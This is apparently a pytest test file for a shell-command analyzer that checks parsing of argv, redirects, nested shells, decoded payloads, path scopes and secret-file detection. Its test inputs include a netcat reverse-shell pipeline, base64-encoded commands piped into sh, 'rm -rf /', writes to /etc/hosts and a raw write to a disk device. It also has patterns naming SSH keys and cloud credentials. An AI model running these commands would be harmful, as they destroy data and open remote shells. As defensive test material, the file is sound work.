"""analyze(): the simple commands a shell string would run, as other reviewers rely on them
(argv after unwrapping, faithful redirects, write targets), and the pieces it is built from."""

from __future__ import annotations

import base64

import pytest

from forethought.review.shell import analyze, write_targets
from forethought.review.shell.decode import run_stages, unescape
from forethought.review.shell.paths import Scope, normalise, scope_of, secret_kind


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def test_analyze_unwraps_and_keeps_redirects() -> None:
    analysis = analyze("sudo -u x env A=1 nice -n 5 /bin/rm -rf /tmp/x > out.txt 2>&1")
    (cmd,) = analysis.commands
    assert cmd.argv == ["rm", "-rf", "/tmp/x"]
    assert cmd.redirects == [(">", "out.txt"), ("2>&", "1")]
    # (sudo -u x runs it as the user x, not as root: a wrapper of its own, no privilege one)
    assert cmd.wrappers == ["sudo -u", "env", "nice"]
    assert cmd.env == {"A": "1"}
    (as_root,) = analyze("sudo -u root env A=1 rm -rf /tmp/x").commands
    assert as_root.wrappers == ["sudo", "env"]
    assert cmd.text in analysis.source and cmd.depth == 0


def test_analyze_resolves_quoting_variables_and_substitutions() -> None:
    argvs = [
        c.argv for c in analyze("X=rm; $X -rf / && r''m \"a\"b \\c $'\\x64'").commands if c.argv
    ]
    assert argvs == [["rm", "-rf", "/"], ["rm", "ab", "c", "d"]]
    assert analyze("$(echo ls) -l").commands[0].argv == ["ls", "-l"]
    assert analyze("$(which python3) x.py").commands[0].argv == ["python3", "x.py"]


def test_analyze_walks_nested_shells_and_reports_depth() -> None:
    analysis = analyze("bash -c \"sh -c 'rm -f x'\"")
    rm = next(c for c in analysis.commands if c.name == "rm")
    assert rm.argv == ["rm", "-f", "x"] and rm.depth == 2
    decoded = analyze(f"echo {b64('touch /tmp/y')} | base64 -d | sh")
    touch = next(c for c in decoded.commands if c.name == "touch")
    assert touch.origin and touch.depth == 1 and decoded.payloads


def test_analyze_exposes_write_targets() -> None:
    analysis = analyze(
        "cd /etc && echo x > hosts; cat a | tee -a /tmp/log; cp a b /srv/; sed -i s/a/b/ c.txt; "
        "mv d e; rm -f f; chmod 600 g; dd if=x of=/dev/sdb"
    )
    targets = {(t.path, t.how) for t in analysis.write_targets()}
    assert ("/etc/hosts", "redirect") in targets
    assert ("/tmp/log", "tee -a") in targets
    assert ("/srv", "cp") in targets
    assert ("/etc/c.txt", "sed -i") in targets
    assert ("/etc/e", "mv") in targets and ("/etc/d", "mv (source)") in targets
    assert ("/etc/f", "rm") in targets and ("/etc/g", "chmod") in targets
    assert ("/dev/sdb", "dd") in targets


def test_find_exec_and_xargs_become_commands() -> None:
    names = [
        c.argv for c in analyze("find . -name x -exec rm -f {} \\; | xargs -0 chmod 600").commands
    ]
    assert ["rm", "-f", "{}"] in names
    assert ["chmod", "600"] in names


def test_redirect_descriptor_written_without_space() -> None:
    (sh, nc) = [c for c in analyze("/bin/sh 0</tmp/p | nc 10.0.0.1 4444 1>/tmp/p").commands]
    assert sh.argv == ["sh"] and sh.redirects == [("0<", "/tmp/p")]
    assert nc.redirects == [("1>", "/tmp/p")]
    assert analyze("echo 2 > x").commands[0].argv == ["echo", "2"]


def test_pipeline_stages_and_heredoc_pipelines() -> None:
    analysis = analyze("cat <<EOF | sh -s | tee out\nls\nEOF")
    stages = [(c.name, c.stage) for c in analysis.commands if c.pipeline >= 0 and c.depth == 0]
    assert stages == [("cat", 0), ("sh", 1), ("tee", 2)]
    sink = next(c for c in analysis.commands if c.name == "sh")
    assert [c.name for c in analysis.upstream(sink)] == ["cat"]
    assert any(c.name == "ls" and c.depth == 1 for c in analysis.commands)


def test_word_splitting_braces_and_loop_variables() -> None:
    assert analyze('X="ls -la /"; $X').commands[-1].argv == ["ls", "-la", "/"]
    assert analyze('IFS=,; X="ls,-l"; $X').commands[-1].argv == ["ls", "-l"]
    assert analyze('touch {a,b}.txt "{c,d}"').commands[0].argv == [
        "touch",
        "a.txt",
        "b.txt",
        "{c,d}",
    ]
    loop = analyze("for d in src /; do rm -rf $d; done").commands
    assert ["rm", "-rf", "/"] in [c.argv for c in loop]


def test_cd_is_tracked_for_relative_paths() -> None:
    rm = next(c for c in analyze("cd /etc && rm -rf *").commands if c.name == "rm")
    assert rm.cwd == "/etc"
    assert scope_of("*", rm.cwd) == Scope.SYSTEM


def test_unresolved_command_names_are_issues() -> None:
    analysis = analyze("$CMD -x; ${DIR}/bin/rm y; ls")
    assert [i.kind for i in analysis.issues] == ["unresolved_command"]
    assert analysis.commands[1].argv == ["rm", "y"]


def test_decoders() -> None:
    assert unescape(r"\x72\x6d \101\n") == b"rm A\n"
    assert unescape(r"\0101", octal_needs_zero=True) == b"A"
    decoded = run_stages([(["echo", b64("id")], None), (["base64", "-d"], None)])
    assert decoded is not None and decoded.data == b"id" and decoded.decoded
    hexed = run_stages([(["echo", "6964"], None), (["xxd", "-r", "-p"], None)])
    assert hexed is not None and hexed.data == b"id"
    printf = run_stages([(["printf", "%s-%s\\n", "a", "b", "c"], None)])
    assert printf is not None and printf.data == b"a-b\nc-\n"
    assert run_stages([(["cat", "file"], None)]) is None  # depends on the file system
    assert run_stages([(["base64", "-d"], "!!!not base64")]) is None


@pytest.mark.parametrize(
    ("path", "scope"),
    [
        ("/", Scope.SYSTEM),
        ("/*", Scope.SYSTEM),
        ("~", Scope.SYSTEM),
        ("$HOME/", Scope.SYSTEM),
        ("/home/alice", Scope.SYSTEM),
        ("/etc/passwd", Scope.SYSTEM_FILE),
        ("~/.ssh", Scope.USER_CONFIG),
        ("~/.cache/pip", Scope.LOCAL),
        ("..", Scope.PARENT),
        ("*", Scope.CWD_ALL),
        (".git", Scope.CWD_ALL),
        ("~/Downloads/x", Scope.HOME_PART),
        ("/srv/app", Scope.ABSOLUTE),
        ("/usr/local/bin/tool", Scope.ABSOLUTE),
        ("$TARGET/", Scope.UNKNOWN),
        ("build/", Scope.LOCAL),
        ("/tmp/x", Scope.LOCAL),
    ],
)
def test_scope_of_paths(path: str, scope: Scope) -> None:
    assert scope_of(path) == scope


def test_secret_paths() -> None:
    assert secret_kind("~/.ssh/id_ed25519") == ("an SSH private key", True)
    assert secret_kind("/home/bob/.aws/credentials") is not None
    assert secret_kind(".env") == ("an environment file with secrets", False)
    assert secret_kind(".env.example") is None
    assert secret_kind("~/.ssh/id_rsa.pub") is None
    assert secret_kind("~/.ssh/known_hosts") is None
    assert secret_kind("README.md") is None
    assert normalise("$HOME/.ssh//id_rsa") == "~/.ssh/id_rsa"


def test_write_targets_of_one_command() -> None:
    (cmd,) = analyze("sudo tee -a /etc/hosts < new").commands
    assert [(t.path, t.how, t.append) for t in write_targets(cmd)] == [
        ("/etc/hosts", "tee -a", True)
    ]


def test_the_parse_time_budget_guards_long_texts(monkeypatch: pytest.MonkeyPatch) -> None:
    # every timed parse out of time at once: a text over UNTIMED_BYTES is not read, and says so;
    # a short one is parsed without the budget's callbacks
    from forethought.review.shell import parse

    monkeypatch.setattr(parse, "PARSE_BUDGET_S", -1.0)
    walk = parse.analyze.__wrapped__  # (uncached)
    long = walk("echo " + "word " * (parse.UNTIMED_BYTES // 5 + 1))
    short = walk("ls -la /tmp")
    assert [issue.kind for issue in long.issues] == ["too_large"] and not long.commands
    assert [cmd.argv for cmd in short.commands] == [["ls", "-la", "/tmp"]] and not short.issues


def test_node_kinds_by_id_are_the_node_types() -> None:
    from forethought.review.shell.source import KIND_NAMES, thread_parser

    tree = thread_parser().parse(
        b"f() { a=(1 2); case $x in y) ((i++));; esac; }; cat <<EOF | sh\n$(id)\nEOF\n"
        b"diff <(ls) >(wc) 2>&1 && [[ -n ${y:-z} ]] || until false; do :; done; ${ & ) fi"
    )
    nodes, kinds = [tree.root_node], set()
    while nodes:
        node = nodes.pop()
        assert KIND_NAMES[node.kind_id] == node.type
        kinds.add(node.type)
        nodes.extend(node.children)
    assert {"ERROR", "heredoc_body", "process_substitution", "case_item"} <= kinds
